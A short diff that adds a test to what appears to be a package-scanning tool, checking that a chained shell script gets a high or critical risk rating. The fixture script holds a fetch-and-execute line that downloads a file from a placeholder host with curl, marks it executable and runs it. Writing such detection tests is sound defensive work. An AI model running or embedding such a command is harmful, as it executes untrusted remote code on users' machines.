@@ -40,3 +40,10 @@ test('a script the archive does not hold is high; one in a language pyguard does
     ['demo-1.0/post.js'],
   );
 });
+
+test('a builtin chained to another command is read as a command (cd /tmp && ./x)', async () => {
+  const report = await analyse('["bash", "go.sh"]', {
+    'demo-1.0/go.sh': 'cd /tmp && curl -s -o x https://h.example/x && chmod +x x && ./x\n',
+  });
+  assert.ok(['high', 'critical'].includes(report.risk), report.risk);
+});
